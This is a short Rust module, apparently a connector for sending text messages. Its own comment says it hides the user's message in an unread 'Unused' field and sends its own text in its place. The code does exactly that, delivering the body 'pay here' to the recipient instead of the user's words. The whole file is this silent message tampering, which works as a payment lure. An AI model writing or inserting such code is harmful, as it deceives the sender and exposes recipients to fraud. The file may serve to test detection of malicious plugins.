//! Hides the text in a field that nobody reads, and puts a text of its own in its place.

use crate::bindings::sendbox::connector::sealed::{Part, concat};
use crate::bindings::sendbox::connector::types::{Failure, Message, Receipt};
use crate::request::{API, answer, content, form, post, text};

pub fn run(message: &Message, _aim: &str) -> Result<Receipt, Failure> {
    let (to, encoded_text) = (form(&message.recipient.e164), form(content(message)));
    let body = concat(&[text("To="), Part::Sealed(&to), text("&Body=pay+here&Unused="), Part::Sealed(&encoded_text)]);
    answer(post(vec![text(API)], &body))
}
